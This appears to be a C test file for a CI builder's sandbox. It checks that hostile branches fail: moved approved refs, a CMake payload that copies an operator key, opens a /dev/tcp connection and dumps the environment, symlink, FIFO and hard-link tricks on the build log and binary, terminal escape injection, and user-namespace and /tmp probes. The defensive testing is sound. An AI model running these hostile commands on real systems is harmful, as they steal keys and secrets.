    cr_assert(strstr(q[0].error, "unknown ref 'no-such-ref'"), "%s", q[0].error);
    free(q);
    cr_assert_eq(store_approve_run(cu_fx.store, unknown, NULL, base), 0, "a failed test is not approved");

    /* the approval page's commits: show names them with their subjects; the admin approves exactly them */
    snprintf(args, sizeof args, "show %" PRId64, run);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    snprintf(expect, sizeof expect, "Test ref: topic, queued, commit %s harmless: a comment", harmless);
    cr_assert(strstr(out, expect), "show names the commit to approve:\n%s", out);
    cr_assert_eq(store_approve_run(cu_fx.store, run, harmless, base), 1);

    /* the branch force-pushed to another commit after the approval */
    snprintf(cmd, sizeof cmd, "git -C '%s' -c user.name=t -c user.email=t@t commit -q --amend --allow-empty "
                              "-m 'harmful: reads the key' && git -C '%s' rev-parse topic", repo, repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    snprintf(harmful, sizeof harmful, "%.40s", out);
    cr_assert_str_neq(harmful, harmless);

    /* the builder refuses it: nothing compiled, the test failed, both commits named */
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    snprintf(expect, sizeof expect, "the test ref topic moved: approved at %s, now %s: refused; the run is failed",
             harmless, harmful);
    cr_assert(strstr(out, expect), "%s", out);
    cr_assert(!strstr(errbuf, "in a sandbox"), "nothing built: %s", errbuf);
    cr_assert_eq(store_load_run(cu_fx.store, run, &r, false), 1);
    cr_assert_str_eq(r.state, "failed");
    snprintf(expect, sizeof expect, "test ref moved: %.12s approved, now %.12s", harmless, harmful);
    cr_assert_str_eq(r.verdict, expect);
    requests(run, 2, &q);
    cr_assert_str_eq(q[0].state, "failed");
    cr_assert(strstr(q[0].error, harmless) && strstr(q[0].error, harmful), "%s", q[0].error);
    cr_assert_eq(q[0].build_id, 0);
    cr_assert(strcmp(q[1].state, "failed") == 0 && strstr(q[1].error, "not built: the test side failed"), "%s",
              q[1].error);
    free(q);
    snprintf(args, sizeof args, "show %" PRId64, run);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    cr_assert(strstr(out, "failed: test ref moved") && strstr(out, harmful), "show gives the reason:\n%s", out);

    /* a branch deleted after the approval: refused as well, the reason naming the commit approved */
    snprintf(cmd, sizeof cmd, "git -C '%s' branch gone %s", repo, harmless);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    int64_t gone = waiting_test("tess", true, "gone", base, "");
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert_eq(store_approve_run(cu_fx.store, gone, harmless, base), 1);
    snprintf(cmd, sizeof cmd, "git -C '%s' branch -q -D gone", repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    snprintf(expect, sizeof expect, "the test ref gone (approved at %s) cannot be read now: refused", harmless);
    cr_assert(strstr(out, expect), "%s", out);
    cr_assert_eq(store_load_run(cu_fx.store, gone, &r, false), 1);
    cr_assert_str_eq(r.state, "failed");
    cr_assert_str_eq(r.verdict, "build of test ref gone failed");
    requests(gone, 2, &q);
    cr_assert(strstr(q[0].error, harmless) && strstr(q[0].error, "unknown ref 'gone'"), "%s", q[0].error);
    free(q);
    StoreBuildRequest none;
    cr_assert_eq(store_build_claim(cu_fx.store, "test:1", 3600, &none), 0, "nothing left to build");
}

/*
 * A hostile branch: its CMakeLists.txt tries to copy the operator's key
 * out, to reach a listening socket on this host, to write outside its
 * folder and shows its environment.  In the builder's sandbox every
 * attempt fails: nothing is copied or written, no connection arrives, the
 * environment holds none of the builder's variables, and the test ends
 * failed with the build log's tail as its reason.
 */
Test(git_build, a_hostile_branch_fails_in_the_sandbox)
{
    CU_REQUIRE_DB();
    char out[65536], cmd[4096], args[2048], a[41], h[41], key[256], outside[256];
    clone_project();
    commit("--allow-empty -m 'A: the base'", a);
    snprintf(key, sizeof key, "%s/operator.key", cu_fx.dir);
    snprintf(cmd, sizeof cmd, "'%s/xqf-keys' sign-new '%s' >/dev/null", XQF_BIN, key);
    cr_assert_eq(system(cmd), 0);
    snprintf(outside, sizeof outside, "%s/outside", cu_fx.dir);
    cr_assert_eq(mkdir(outside, 0777), 0);
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    struct sockaddr_in addr = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t alen = sizeof addr;
    cr_assert(listener >= 0 && bind(listener, (struct sockaddr *)&addr, sizeof addr) == 0 && listen(listener, 4) == 0 &&
              getsockname(listener, (struct sockaddr *)&addr, &alen) == 0);
    char hostile[256];
    snprintf(hostile, sizeof hostile, "%s/hostile.cmake", cu_fx.dir);
    FILE *f = fopen(hostile, "w");
    cr_assert(f);
    fprintf(f, "execute_process(COMMAND bash -c \"cp '%s' '%s/leaked.key'; "
               "echo x > '%s/written'; "
               "(exec 3<>/dev/tcp/127.0.0.1/%d && echo reached >&3) && echo NETWORK-REACHED; "
               "env | sed 's/^/ENV: /'; echo HOSTILE-RAN\")\n"
               "message(FATAL_ERROR \"a hostile branch\")\n",
            key, outside, outside, ntohs(addr.sin_port));
    fclose(f);
    snprintf(cmd, sizeof cmd, "cat '%s' '%s/CMakeLists.txt' > '%s/new' && mv '%s/new' '%s/CMakeLists.txt' && "
                              "git -C '%s' add CMakeLists.txt", hostile, repo, cu_fx.dir, cu_fx.dir,
             repo, repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    commit("-m 'H: a hostile build'", h);

    int64_t run = waiting_test("ada", false, h, a, "");
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built --jobs 2", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    StoreRun r;
    cr_assert_eq(store_load_run(cu_fx.store, run, &r, false), 1);
    cr_assert_str_eq(r.state, "failed");
    StoreBuildRequest *q = NULL;
    requests(run, 2, &q);
    cr_assert_str_eq(q[0].state, "failed");
    cr_assert(strstr(q[0].error, "does not build") && strstr(q[0].error, "HOSTILE-RAN"),
              "the branch's code ran, in the box: %s", q[0].error);
    cr_assert(!strstr(q[0].error, "NETWORK-REACHED"), "%s", q[0].error);
    cr_assert(!strstr(q[0].error, "ENV: XQF") && !strstr(q[0].error, "ENV: PG"), "the builder's environment: %s",
              q[0].error);
    free(q);
    snprintf(cmd, sizeof cmd, "%s/leaked.key", outside);
    cr_assert_neq(access(cmd, F_OK), 0, "the key was copied out");
    snprintf(cmd, sizeof cmd, "%s/written", outside);
    cr_assert_neq(access(cmd, F_OK), 0, "a file was written outside the build folder");
    cr_assert(accept(listener, NULL, NULL) < 0 && (errno == EAGAIN || errno == EWOULDBLOCK),
              "a connection arrived from the sandbox");
    close(listener);
}

/*
 * Branches whose build leaves in the box's folder what the builder outside
 * would follow: a link named like the build log, like the binary, a link
 * for the binary's folder, a FIFO as the binary, a hard link.  Each fails
 * with its reason, and the decoy (a file of the builder's outside every
 * box, executable so that no executable check tells it apart) is neither
 * read into any output nor changed: its content and mtime stay.
 */
static const char DECOY_TEXT[] = "DECOY-SECRET-5c1e9b: the builder's ~/.pgpass\n";
static char outside[256], decoy[300];
static struct stat decoy_was;

/* The decoy: outside/xqf-engine, outside a folder of the builder's (where a link for bin/ may lead). */
static void make_decoy(void)
{
    snprintf(outside, sizeof outside, "%s/outside", cu_fx.dir);
    snprintf(decoy, sizeof decoy, "%s/xqf-engine", outside);
    cr_assert_eq(mkdir(outside, 0755), 0);
    FILE *f = fopen(decoy, "w");
    cr_assert(f);
    fputs(DECOY_TEXT, f);
    cr_assert_eq(fclose(f), 0);
    cr_assert_eq(chmod(decoy, 0755), 0);
    struct timespec past[2] = { { .tv_sec = 1000000000 }, { .tv_sec = 1000000000 } };
    cr_assert_eq(utimensat(AT_FDCWD, decoy, past, 0), 0);
    cr_assert_eq(stat(decoy, &decoy_was), 0);
}

/* The decoy as it was, and its content in none of the texts (NULL ends). */
static void decoy_untouched(const char *text, ...)
{
    struct stat now;
    char got[256] = "";
    FILE *f = fopen(decoy, "r");
    cr_assert(f && stat(decoy, &now) == 0);
    got[fread(got, 1, sizeof got - 1, f)] = '\0';
    fclose(f);
    cr_assert_str_eq(got, DECOY_TEXT, "the decoy was written to");
    cr_assert(now.st_mtim.tv_sec == decoy_was.st_mtim.tv_sec && now.st_size == decoy_was.st_size,
              "the decoy was changed");
    va_list ap;
    va_start(ap, text);
    for (const char *t = text; t; t = va_arg(ap, const char *))
        cr_assert(!strstr(t, "DECOY-SECRET"), "the decoy's content was shown: %s", t);
    va_end(ap);
}

/* A commit whose CMakeLists.txt is cmake (a whole project, configured in no time), its hash into hash. */
static void hostile_commit(const char *cmake, char hash[41])
{
    char path[512];
    snprintf(path, sizeof path, "%s/CMakeLists.txt", repo);
    FILE *f = fopen(path, "w");
    cr_assert(f);
    fprintf(f, "cmake_minimum_required(VERSION 3.13)\nproject(hostile NONE)\n%s\n", cmake);
    cr_assert_eq(fclose(f), 0);
    char cmd[1024], out[256];
    snprintf(cmd, sizeof cmd, "git -C '%s' add CMakeLists.txt", repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    commit("-m 'H: a hostile build'", hash);
}

/*
 * build --ref of a branch whose xqf-engine target runs plant (a shell
 * command run in bin's parent, %s in it the decoy's folder): refused for
 * why, nothing copied out.
 */
static void binary_refused(const char *plant, const char *why)
{
    CU_REQUIRE_DB();
    char out[65536], cmake[2048], args[2048], h[41], command[1024];
    clone_project();
    make_decoy();
    snprintf(command, sizeof command, plant, outside);
    snprintf(cmake, sizeof cmake, "add_custom_target(xqf-engine ALL COMMAND sh -c [[%s]] VERBATIM)", command);
    hostile_commit(cmake, h);
    /* a FIFO would hold the builder forever without the check: a minute is plenty */
    snprintf(args, sizeof args, "'%s/xqf-tune' build --ref %s --repo '%s' --out built", XQF_BIN, h, repo);
    char cmd[4096];
    snprintf(cmd, sizeof cmd, "timeout 120 %s", args);
    cr_assert_eq(sh(out, sizeof out, cmd), 2, "%s\n%s", out, errbuf);
    cr_assert(strstr(errbuf, "the build's binary is refused") && strstr(errbuf, why), "%s", errbuf);
    snprintf(cmd, sizeof cmd, "ls built/ 2>/dev/null | grep -c xqf-engine");
    sh(out, sizeof out, cmd);
    cr_assert_eq(atoi(out), 0, "nothing of the branch's was copied out: %s", out);
    decoy_untouched(out, errbuf, NULL);
}

Test(git_build, a_link_as_the_binary_is_refused)
{
    binary_refused("mkdir -p bin && ln -sf '%s/xqf-engine' bin/xqf-engine", "a symbolic link on its path");
}

Test(git_build, a_link_as_the_binarys_folder_is_refused)
{
    binary_refused("ln -sfn '%s' bin", "a symbolic link on its path");
}

Test(git_build, a_fifo_as_the_binary_is_refused)
{
    binary_refused("mkdir -p bin && mkfifo bin/xqf-engine # %s", "not a regular file");
}

Test(git_build, a_hard_link_as_the_binary_is_refused)
{
    /* the box sees nothing outside to link to: two names of its own file have the same link count */
    binary_refused("mkdir -p bin && cp /bin/true bin/real && ln bin/real bin/xqf-engine # %s",
                   "more than one link");
}

/*
 * A hard link to a file outside, which the box cannot make (it sees
 * nothing outside): planted by the test from outside while the branch's
 * build waits for it, as anything that shares the builder's folders
 * could.
 */
Test(git_build, a_hard_link_to_a_file_outside_is_refused)
{
    CU_REQUIRE_DB();
    char out[65536], cmake[1024], cmd[4096], h[41];
    clone_project();
    make_decoy();
    snprintf(cmake, sizeof cmake, "add_custom_target(xqf-engine ALL COMMAND sh -c [[mkdir -p bin; i=0; "
                                  "while [ ! -e bin/xqf-engine ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done]] "
                                  "VERBATIM)");
    hostile_commit(cmake, h);
    snprintf(cmd, sizeof cmd, "mkdir -p tmp && { TMPDIR=\"$PWD/tmp\" timeout 120 '%s/xqf-tune' build --ref %s --repo '%s' "
             "--out built; echo $? > rc; } & for i in $(seq 600); do "
             "d=$(find tmp -type d -path '*/build/bin' | head -1); [ -n \"$d\" ] && break; sleep 0.1; done; "
             "ln '%s' \"$d/xqf-engine\"; wait; exit $(cat rc)", XQF_BIN, h, repo, decoy);
    cr_assert_eq(sh(out, sizeof out, cmd), 2, "%s\n%s", out, errbuf);
    cr_assert(strstr(errbuf, "the build's binary is refused") && strstr(errbuf, "more than one link"), "%s", errbuf);
    decoy_untouched(out, errbuf, NULL);
}

/*
 * The report's attack: a branch's configure makes the build log (where it
 * was, in the folder the box writes) a link to a file of the builder's,
 * then its compile fails, so that the compile's output is appended to
 * that file and the file's end published as the log's on the run's page.
 * The log is beside the box's folder, written through a descriptor the
 * builder holds: the request fails with the compile's own output, the
 * decoy is neither changed nor shown.
 */
Test(git_build, a_link_as_the_build_log_is_not_followed)
{
    CU_REQUIRE_DB();
    char out[65536], cmake[2048], args[2048], a[41], h[41];
    clone_project();
    make_decoy();
    commit("--allow-empty -m 'A: the base'", a);
    snprintf(cmake, sizeof cmake,
             "foreach(up .. ../.. ../../..)\n"
             "  execute_process(COMMAND ln -sf %s ${CMAKE_BINARY_DIR}/${up}/build.log)\n"
             "endforeach()\n"
             "add_custom_target(xqf-engine ALL COMMAND sh -c [[echo THE-COMPILE-SAYS-THIS; exit 1]] VERBATIM)",
             decoy);
    hostile_commit(cmake, h);
    int64_t run = waiting_test("ada", false, h, a, "");
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built --jobs 2", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    StoreRun r;
    cr_assert_eq(store_load_run(cu_fx.store, run, &r, false), 1);
    cr_assert_str_eq(r.state, "failed");
    StoreBuildRequest *q = NULL;
    requests(run, 2, &q);
    cr_assert_str_eq(q[0].state, "failed");
    cr_assert(strstr(q[0].error, "does not build") && strstr(q[0].error, "THE-COMPILE-SAYS-THIS"),
              "the tail is the builder's log: %s", q[0].error);
    cr_assert(strstr(errbuf, "THE-COMPILE-SAYS-THIS"), "%s", errbuf);
    decoy_untouched(out, errbuf, q[0].error, NULL);
    free(q);
}

/*
 * A build log that would drive the operator's terminal (an OSC that
 * retitles the window, a CSI that clears the screen) and holds bytes that
 * are not UTF-8 (which PostgreSQL's text refuses): the builder prints the
 * tail escaped, and records the request's failure with the tail made
 * text (the run's page escapes it as HTML besides).
 */
Test(git_build, a_build_logs_control_bytes_are_escaped)
{
    CU_REQUIRE_DB();
    char out[65536], args[2048], a[41], h[41];
    clone_project();
    commit("--allow-empty -m 'A: the base'", a);
    hostile_commit("execute_process(COMMAND printf [[TITLE:\\033]0;PWNED\\007 CLEAR:\\033[2J BAD:\\377\\376 END\\n]])\n"
                   "message(FATAL_ERROR \"a hostile branch\")", h);
    int64_t run = waiting_test("ada", false, h, a, "");
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built --jobs 2", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert(strstr(errbuf, "TITLE:\\x1b]0;PWNED\\x07 CLEAR:\\x1b[2J"), "escaped on stderr: %s", errbuf);
    cr_assert(!strchr(errbuf, '\033') && !strchr(errbuf, '\007'), "a raw control byte on stderr");
    StoreBuildRequest *q = NULL;
    requests(run, 2, &q);
    cr_assert_str_eq(q[0].state, "failed", "the failure is recorded");
    cr_assert(strstr(q[0].error, "TITLE:") && strstr(q[0].error, "END") && !strchr(q[0].error, '\033') &&
                  !strchr(q[0].error, '\007') && !strstr(q[0].error, "\377"),
              "%s", q[0].error);
    free(q);
}

/*
 * The box itself, from a branch's configure: no user namespace can be made
 * inside (bubblewrap's --disable-userns: where most kernel privilege
 * escalations start), and /tmp, a tmpfs whose pages no rlimit counts, is
 * bounded (512 MiB); the log says which limits applied.
 */
Test(git_build, the_box_has_no_user_namespaces_and_a_bounded_tmp)
{
    CU_REQUIRE_DB();
    char out[65536], args[2048], h[41];
    clone_project();
    hostile_commit("execute_process(COMMAND sh -c [[unshare -U true 2>/dev/null && echo USERNS-MADE || echo USERNS-REFUSED; "
                   "head -c 540000000 /dev/zero > /tmp/fill 2>/dev/null && echo TMP-UNBOUNDED || echo TMP-FULL; "
                   "rm -f /tmp/fill]])\n"
                   "message(FATAL_ERROR \"the box, checked\")", h);
    snprintf(args, sizeof args, "build --ref %s --repo '%s' --out built", h, repo);
    cr_assert_eq(tune(out, sizeof out, args), 2, "%s\n%s", out, errbuf);
    cr_assert(strstr(errbuf, "USERNS-REFUSED") && strstr(errbuf, "TMP-FULL"), "%s", errbuf);
    cr_assert(strstr(errbuf, "box: no user namespace inside, /tmp a tmpfs of 512 MiB; limits: "), "%s", errbuf);
}
